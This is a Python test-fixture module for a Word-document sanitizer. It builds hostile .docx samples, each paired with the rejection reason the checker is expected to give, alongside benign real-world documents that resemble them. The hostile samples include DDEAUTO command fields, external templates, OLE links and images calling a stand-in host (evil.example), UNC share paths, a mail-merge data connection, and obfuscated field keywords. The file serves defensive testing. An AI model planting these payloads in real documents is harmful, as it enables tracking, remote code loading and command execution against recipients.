"""Word documents made to do harm, and real ones that look a little like them."""

from collections.abc import Callable, Mapping
from typing import NamedTuple

from tests.support.forms import OFFICE, WORD, form, packed, parts_of, related, replaced, with_part

EVIL = "http://evil.example/track"
PLAIN = form("{{ project.name }}", header="页眉")
PICTURE = b"\x89PNG\r\n\x1a\n" + bytes(60)

_MICROSOFT = "http://schemas.microsoft.com/office"
_OPEN = "http://schemas.openxmlformats.org"
_SPACES = (
    f'xmlns:w="{WORD}" xmlns:r="{OFFICE}" xmlns:v="urn:schemas-microsoft-com:vml"'
    f' xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:a="{_OPEN}/drawingml/2006/main"'
    f' xmlns:mc="{_OPEN}/markup-compatibility/2006" xmlns:c="{_OPEN}/drawingml/2006/chart"'
    f' xmlns:wp="{_OPEN}/drawingml/2006/wordprocessingDrawing"'
    f' xmlns:w15="{_MICROSOFT}/word/2012/wordml"'
    f' xmlns:wp15="{_MICROSOFT}/word/2012/wordprocessingDrawing"'
    f' xmlns:asvg="{_MICROSOFT}/drawing/2016/SVG/main" xmlns:x="urn:another-program"'
)


def body(xml: str, data: bytes = PLAIN) -> bytes:
    """Return a document with one paragraph more."""
    spaced = f"<w:p {_SPACES}><w:r>{xml}</w:r></w:p>"
    return replaced(data, "word/document.xml", "<w:body>", f"<w:body>{spaced}")


def story(kind: str, xml: str, name: str = "") -> bytes:
    """Return a document with one part more, of a kind that Word relates to the body."""
    roots = {"header": "hdr", "footer": "ftr", "glossaryDocument": "glossaryDocument"}
    root = roots.get(kind, kind)
    name = name or f"more-{kind}.xml"
    content = f"<w:{root} {_SPACES}>{xml}</w:{root}>"
    return with_part(related(PLAIN, kind, name), f"word/{name}", content.encode())


def chars(*pieces: str) -> str:
    """Return a field in pieces: `begin`, `separate` and `end` are its marks."""
    marks = ("begin", "separate", "end")
    return "".join(
        f'<w:r><w:fldChar w:fldCharType="{piece}"/></w:r>'
        if piece in marks
        else piece
        if piece.startswith("<")
        else f"<w:r><w:instrText>{piece}</w:instrText></w:r>"
        for piece in pieces
    )


def field(*pieces: str) -> str:
    """Return a paragraph with a field: its instruction, and a result."""
    return f"<w:p>{chars('begin', *pieces, 'separate', '<w:r><w:t>1</w:t></w:r>', 'end')}</w:p>"


def fields(*pieces: str) -> bytes:
    """Return a document with a field whose instruction is in these pieces."""
    xml = field(*pieces).replace("<w:p>", f"<w:p {_SPACES}>", 1)
    return replaced(PLAIN, "word/document.xml", "<w:body>", f"<w:body>{xml}")


def chart(relations: str = "", more: str = "") -> bytes:
    """Return a document with a chart, whose own relations these are."""
    data = related(PLAIN, "chart", "charts/chart1.xml")
    drawing = f'<w:drawing><wp:inline><a:graphic><a:graphicData uri="{_OPEN}/drawingml/2006/chart">'
    drawing += '<c:chart r:id="more"/></a:graphicData></a:graphic></wp:inline></w:drawing>'
    content = f"<c:chartSpace {_SPACES}><c:chart/>{more}</c:chartSpace>"
    rels = f'<Relationships xmlns="{_OPEN}/package/2006/relationships">{relations}</Relationships>'
    data = with_part(body(drawing, data), "word/charts/chart1.xml", content.encode())
    return with_part(data, "word/charts/_rels/chart1.xml.rels", rels.encode())


def relation(kind: str, target: str, mode: str = "") -> str:
    """Return a relation of a part, called `more`."""
    outside = f' TargetMode="{mode}"' if mode else ""
    return f'<Relationship Id="more" Type="{OFFICE}/{kind}" Target="{target}"{outside}/>'


def rels(owner: str, *relations: str, ending: str = "rels") -> Callable[[bytes], bytes]:
    """Return what adds the relations of a part to a document."""
    folder, _, file = owner.rpartition("/")
    content = f'<Relationships xmlns="{_OPEN}/package/2006/relationships">'
    content += f"{''.join(relations)}</Relationships>"
    return lambda data: with_part(data, f"{folder}/_rels/{file}.{ending}", content.encode())


def _types(old: str, new: str, data: bytes = PLAIN) -> bytes:
    return replaced(data, "[Content_Types].xml", old, new)


def _chain(length: int) -> bytes:
    """Return a document in which each header leads to the next one."""
    data = PLAIN
    parts = parts_of(data)
    for number in range(1, length):
        following = relation("header", f"header{number + 1}.xml")
        parts |= parts_of(rels(f"word/header{number}.xml", following)(packed({})))
        parts[f"word/header{number + 1}.xml"] = parts["word/header1.xml"]
    return packed(parts)


_EXTERNAL = "External"
_CHOICE = '<mc:AlternateContent><mc:Choice Requires="zz">{}</mc:Choice></mc:AlternateContent>'
_T = "<w:r><w:t>{}</w:t></w:r>"
_MARK = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
_CONNECTION = (
    '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:connectString w:val="Provider=X;'
    'Data Source=\\\\evil\\x.mdb"/><w:query w:val="SELECT * FROM x"/></w:mailMerge>'
)

_CORE = f"{_OPEN}/package/2006/relationships/metadata/core-properties"

HOSTILE: Mapping[str, tuple[bytes, str]] = {
    # names and types of parts
    "relations with another case": (
        rels(
            "word/more-settings.xml",
            relation("attachedTemplate", f"{EVIL}.dotm", _EXTERNAL),
            ending="RELS",
        )(story("settings", "")),
        "form.attached-template",
    ),
    "core properties that are the list of types": (
        replaced(
            PLAIN,
            "_rels/.rels",
            "</Relationships>",
            f'<Relationship Id="c" Type="{_CORE}" Target="[Content_Types].xml"/></Relationships>',
        ),
        "form.other-part",
    ),
    "core properties that are the document": (
        replaced(
            PLAIN,
            "_rels/.rels",
            "</Relationships>",
            f'<Relationship Id="c" Type="{_CORE}" Target="word/document.xml"/></Relationships>',
        ),
        "form.other-part",
    ),
    "a header that is a picture by its name": (
        with_part(related(PLAIN, "header", "media/h.png"), "word/media/h.png", PICTURE),
        "form.unsafe-xml",
    ),
    "a header in a part named .png": (
        story("header", field("DDEAUTO cmd x"), "media/h.png"),
        "form.reading-field",
    ),
    "a font that is a list of relations": (
        with_part(related(story("fontTable", ""), "font", "_rels/document.xml.rels"), "word/x.xml"),
        "form.other-part",
    ),
    "a part of two kinds": (
        related(story("header", ""), "footer", "more-header.xml", name="second"),
        "form.other-part",
    ),
    "a picture that is a program": (
        with_part(related(PLAIN, "image", "media/a.png"), "word/media/a.png", b"MZ" + bytes(60)),
        "form.no-picture",
    ),
    "a macro project that nothing leads to": (
        with_part(PLAIN, "word/vbaProject.bin", b"\xd0\xcf\x11\xe0"),
        "",
    ),
    "an unknown type of relation": (
        with_part(related(PLAIN, "somethingNew", "new.xml"), "word/new.xml"),
        "",
    ),
    "a long chain of parts": (_chain(240), ""),
    # relations
    "a picture on the web": (related(PLAIN, "image", EVIL, external=True), "form.external"),
    "a page of a share": (
        related(PLAIN, "hyperlink", "file://evil/share", external=True),
        "form.external",
    ),
    "a linked object": (related(PLAIN, "oleObject", EVIL, external=True), "form.external"),
    "an empty target": (related(PLAIN, "image", ""), "form.no-target"),
    "a relation of comments to a template": (
        rels("word/more-comments.xml", relation("attachedTemplate", EVIL, _EXTERNAL))(
            story("comments", "")
        ),
        "form.attached-template",
    ),
    "frames": (
        rels("word/more-webSettings.xml", relation("frame", EVIL, _EXTERNAL))(
            story("webSettings", "<w:frameset/>")
        ),
        "form.alternative-content",
    ),
    "a picture shown from where a link leads": (
        body(
            '<w:pict><v:shape><v:imagedata r:id="more"/></v:shape></w:pict>',
            related(PLAIN, "hyperlink", EVIL, external=True),
        ),
        "form.part-kind",
    ),
    "a fill that follows a relation": (
        body(
            '<w:pict><v:shape><v:fill r:href="more"/></v:shape></w:pict>',
            related(PLAIN, "hyperlink", EVIL, external=True),
        ),
        "form.part-kind",
    ),
    "a linked chart": (
        chart(relation("oleObject", "file:///C:/x.xlsx", _EXTERNAL)),
        "form.external",
    ),
    "a chart with a linked workbook": (
        chart(relation("package", f"{EVIL}.xlsx", _EXTERNAL)),
        "form.external",
    ),
    # settings
    "a mail merge with a query": (story("settings", _CONNECTION), "form.mail-merge"),
    "a template by its element alone": (
        story("settings", '<w:attachedTemplate r:id="x"/>'),
        "form.attached-template",
    ),
    "a stylesheet on the web": (story("settings", f'<w:saveThroughXslt w:xslt="{EVIL}"/>'), ""),
    "smart tags with an address": (
        story("settings", f'<w:smartTagType w:name="d" w:url="{EVIL}"/>'),
        "",
    ),
    "an address in an unknown setting": (
        story("settings", f'<w:updateFrom w:val="{EVIL}"/>'),
        "form.external",
    ),
    "a base for relative links": (
        replaced(
            with_part(
                PLAIN,
                "docProps/app.xml",
                f'<Properties xmlns="{_OPEN}/officeDocument/2006/extended-properties">'
                f"<HyperlinkBase>{EVIL}</HyperlinkBase></Properties>".encode(),
            ),
            "_rels/.rels",
            "</Relationships>",
            f'<Relationship Id="a" Type="{OFFICE}/extended-properties" Target="docProps/app.xml"/>'
            "</Relationships>",
        ),
        "",
    ),
    "xml:base": (
        replaced(PLAIN, "word/document.xml", "<w:body>", f'<w:body xml:base="{EVIL}">'),
        "",
    ),
    # drawings
    **{
        f"{element} {name}": (
            body(f'<w:pict><v:shape><v:{element} {name}="{EVIL}.png"/></v:shape></w:pict>'),
            "form.external",
        )
        for element in ("imagedata", "fill", "stroke")
        for name in ("src", "o:href", "althref")
    },
    "a picture of a share": (
        body('<w:pict><v:shape><v:imagedata src="\\\\evil\\a.png"/></v:shape></w:pict>'),
        "form.external",
    ),
    "a relative picture": (
        body('<w:pict><v:shape><v:imagedata src="../a.png"/></v:shape></w:pict>'),
        "form.external",
    ),
    "a drawing that leads to a file": (
        body('<w:pict><v:shape href="file:///C:/x.exe"/></w:pict>'),
        "form.external",
    ),
    "a style with an address": (
        body(f'<w:pict><v:shape style="background:url({EVIL})"/></w:pict>'),
        "form.external",
    ),
    "a drawing with an action": (
        body(
            '<w:drawing><wp:inline><wp:docPr id="1" name="x"><a:hlinkClick r:id=""'
            ' action="ppaction://program"/></wp:docPr></wp:inline></w:drawing>'
        ),
        "form.external",
    ),
    "a film on the web": (
        body(f'<w:drawing><wp15:webVideoPr embeddedHtml="&lt;iframe src={EVIL}&gt;"/></w:drawing>'),
        "form.embedded",
    ),
    "a sound": (body('<w:drawing><a:wavAudioFile r:embed="x"/></w:drawing>'), "form.embedded"),
    "an object": (body('<w:object><o:OLEObject r:id="x"/></w:object>'), "form.embedded"),
    "a macro on leaving a field": (
        body(
            '<w:fldChar w:fldCharType="begin"><w:ffData><w:exitMacro w:val="m"/></w:ffData>'
            "</w:fldChar>"
        ),
        "form.macros",
    ),
    "a chunk of HTML": (body('<w:altChunk r:id="x"/>'), "form.alternative-content"),
    "a package in an attribute": (
        body('<w:pict><v:shape o:gfxdata="UEsDBBQABgAIAAAA"/></w:pict>'),
        "",
    ),
    "an address in the data of a field": (
        body(
            '<w:fldChar w:fldCharType="begin"><w:fldData>CNDJ6nn5</w:fldData></w:fldChar>'
            '<w:fldChar w:fldCharType="end"/>'
        ),
        "",
    ),
    "content of another program": (body(f'<x:run src="{EVIL}"><w:t>x</w:t></x:run>'), ""),
    "data that a control is bound to": (
        body('<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a" w:storeItemID="{0}"/></w:sdtPr></w:sdt>'),
        "",
    ),
    "a drawing in SVG with a script": (
        with_part(
            body(
                '<w:drawing><a:blip r:embed="x"><a:extLst><a:ext uri="{96DAC541}"><asvg:svgBlip'
                ' r:embed="more"/></a:ext></a:extLst></a:blip></w:drawing>',
                related(PLAIN, "image", "media/a.svg"),
            ),
            "word/media/a.svg",
            f"<svg><script href='{EVIL}'/></svg>".encode(),
        ),
        "",
    ),
    # fields
    "a field in a comment": (
        story("comments", f"<w:comment>{field('INCLUDETEXT x')}</w:comment>"),
        "form.reading-field",
    ),
    "a field in a note": (
        story("footnotes", f"<w:footnote>{field('DDE x y')}</w:footnote>"),
        "form.reading-field",
    ),
    "a field in a footer": (story("footer", field("LINK Excel.Sheet x")), "form.reading-field"),
    "a field in building blocks": (
        story("glossaryDocument", f"<w:docParts>{field('DDEAUTO cmd calc')}</w:docParts>"),
        "",
    ),
    "a field in w:t": (fields(_T.format("INCLUDETEXT x")), "form.reading-field"),
    "a field in runs of both kinds": (fields("INCLUDE", _T.format("TEXT x")), "form.reading-field"),
    "a field after a zero-width space": (fields("\u200bINCLUDETEXT x"), "form.reading-field"),
    "a field after a byte order mark": (fields("\ufeffDDEAUTO x"), "form.reading-field"),
    "a field in full-width letters": (fields("ＩＮＣＬＵＤＥＴＥＸＴ x"), "form.reading-field"),
    "a field whose kind another one says": (
        fields(chars("begin", 'QUOTE "DDEAUTO"', "end"), " x"),
        "form.reading-field",
    ),
    "a field whose kind another one ends": (
        fields("DDE", chars("begin", 'QUOTE "AUTO"', "end"), " x"),
        "form.reading-field",
    ),
    "a field in a result": (
        fields("PAGE", _MARK.format("separate"), chars("begin", "INCLUDETEXT x", "end")),
        "form.reading-field",
    ),
    "an end of the instruction that Word reads over": (
        fields(
            "<w:r>" + _CHOICE.format('<w:fldChar w:fldCharType="separate"/>') + "</w:r>",
            _T.format("INCLUDETEXT x"),
        ),
        "form.reading-field",
    ),
    "an end of the instruction that was deleted": (
        fields(f"<w:del>{_MARK.format('separate')}</w:del>", _T.format("INCLUDETEXT x")),
        "form.reading-field",
    ),
    "a link to a file": (fields('HYPERLINK "file:///C:/x.exe"'), "form.reading-field"),
    "a link to a file after a place": (
        fields('HYPERLINK \\l "x" "file:///C:/x.exe"'),
        "form.reading-field",
    ),
    "a place that is a file": (fields('HYPERLINK \\l "file:///C:/x.exe"'), "form.reading-field"),
    "a link to a share": (fields("HYPERLINK \\\\\\\\evil\\\\x"), "form.reading-field"),
    "a link that another field says": (
        fields("HYPERLINK ", chars("begin", "DOCVARIABLE a", "end")),
        "form.reading-field",
    ),
    "two links in one": (fields('HYPERLINK "https://a.example" "file:///x"'), "form.reading-field"),
    "a field whose kind a tag says": (
        fields(_T.format("{{ project.name }} x")),
        "form.reading-field",
    ),
    "a link that a tag says": (
        fields(_T.format('HYPERLINK "https://{{project.name}}"')),
        "form.reading-field",
    ),
    "an unknown field": (fields("FETCH x"), "form.reading-field"),
    "a simple field": (
        replaced(
            PLAIN,
            "word/document.xml",
            "<w:body>",
            "<w:body><w:p><w:fldSimple w:instr='RD x'/></w:p>",
        ),
        "form.reading-field",
    ),
}
"""Documents, and why each is refused; nothing where it is taken, and what is harmful left out."""


class Real(NamedTuple):
    """A document as it comes from Word, and what is left out of it, as phrases."""

    data: bytes
    left_out: tuple[str, ...] = ()


_STATED = (
    'PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"'
)
_TOC = chars(
    "begin",
    'TOC \\o "1-3" \\h \\z \\u',
    "separate",
    _T.format("一、情况"),
    "begin",
    "PAGEREF _Toc1 \\h",
    "separate",
    _T.format("2"),
    "end",
    "end",
)


def _paragraph(xml: str) -> bytes:
    return replaced(PLAIN, "word/document.xml", "<w:body>", f"<w:body><w:p {_SPACES}>{xml}</w:p>")


def _extra(kind: str, name: str, content: bytes = b"<x/>") -> bytes:
    return with_part(related(PLAIN, kind, name), f"word/{name}", content)


def _prefixed() -> bytes:
    parts = parts_of(PLAIN)
    types = parts["[Content_Types].xml"].decode()
    for name in ("Types", "Default", "Override"):
        types = types.replace(f"<{name}", f"<ct:{name}").replace(f"</{name}", f"</ct:{name}")
    types = types.replace("xmlns=", "xmlns:ct=")
    return packed(parts | {"[Content_Types].xml": types.encode()})


def _by_default() -> bytes:
    main = _STATED.partition(" ContentType=")[2]
    data = _types(f"<Override {_STATED}/>", "")
    return _types('"application/xml"', main, data)


REAL: Mapping[str, Real] = {
    "a table of contents": Real(_paragraph(_TOC)),
    "an IF with a field in it": Real(
        fields("IF ", chars("begin", "PAGE", "separate", _T.format("1"), "end"), ' = 1 "a" "b"')
    ),
    "a formula in a table": Real(fields("=SUM(ABOVE) \\# 0.00")),
    "a link with two blanks": Real(fields(' HYPERLINK  \\l "_Toc1" ')),
    "a link after a tab": Real(fields("HYPERLINK", "<w:r><w:tab/></w:r>", '\\l "_Toc1"')),
    "a link with a frame and a tip": Real(
        fields('HYPERLINK "https://example.cn/a" \\o "提示" \\t "_blank"')
    ),
    "a link to a place with a slash": Real(fields('HYPERLINK \\l "_收入/支出"')),
    "page numbers without a blank": Real(fields("PAGE\\* MERGEFORMAT")),
    "a mailto link": Real(related(PLAIN, "hyperlink", "mailto:a@example.cn", external=True)),
    "an older drawing that leads to a page": Real(
        body('<w:pict><v:shape href="https://example.cn/"/></w:pict>')
    ),
    "alternative words that name a page": Real(
        body(
            '<w:drawing><wp:inline><wp:docPr id="1" name="x" descr="见 https://a.example"/>'
            "</wp:inline></w:drawing>"
        )
    ),
    "printer settings": Real(
        _extra("printerSettings", "printerSettings1.bin", b"\0\1"), ("form.left.printer",)
    ),
    "panes of web extensions": Real(
        replaced(
            with_part(PLAIN, "word/webextensions/taskpanes.xml"),
            "_rels/.rels",
            "</Relationships>",
            f'<Relationship Id="t" Type="{_MICROSOFT}/2011/relationships/webextensiontaskpanes"'
            ' Target="word/webextensions/taskpanes.xml"/></Relationships>',
        ),
        ("form.left.add-in",),
    ),
    "remarks of the editor": Real(
        _extra("intelligence", "intelligence2.xml"), ("form.left.editor",)
    ),
    "menus": Real(_extra("extensibility", "customUI.xml"), ("form.left.menus",)),
    "a small picture and data": Real(
        with_part(
            related(_extra("thumbnail", "t.emf", b"x"), "customXml", "item.xml", name="second"),
            "word/item.xml",
        )
    ),
    "a signature": Real(_extra("origin", "origin.sigs", b""), ("form.left.signature",)),
    "a chart": Real(chart()),
    "a chart with its workbook": Real(
        with_part(
            chart(relation("package", "../embeddings/a.xlsx"), '<c:externalData r:id="more"/>'),
            "word/embeddings/a.xlsx",
            b"PK\3\4",
        ),
        ("form.left.workbook",),
    ),
    "types by ending": Real(_by_default()),
    "types under a prefix": Real(_prefixed()),
    "a trash part": Real(with_part(PLAIN, "[trash]/0000.dat", b"\xff\xff")),
    "extensions of early versions of Word": Real(
        with_part(
            related(PLAIN, "commentsExtended", "ex.xml"),
            "word/ex.xml",
            f'<w15:commentsEx xmlns:w15="{_MICROSOFT}/word/2010/11/wordml"/>'.encode(),
        )
    ),
}
STRICT = replaced(
    PLAIN, "_rels/.rels", OFFICE, "http://purl.oclc.org/ooxml/officeDocument/relationships"
)
